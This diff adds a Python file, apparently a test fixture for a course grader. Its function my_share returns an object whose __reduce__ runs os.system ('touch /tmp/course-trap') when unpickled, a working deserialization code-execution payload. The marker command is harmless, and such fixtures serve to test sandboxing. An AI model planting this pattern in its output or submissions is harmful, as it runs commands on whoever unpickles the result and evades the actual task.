@@ -1,0 +1,11 @@
+"""Return what runs a command in whoever unpickles it."""
+
+class Trap:
+    def __reduce__(self):
+        import os
+
+        return os.system, ("touch /tmp/course-trap",)
+
+
+def my_share(n_items):
+    return Trap()
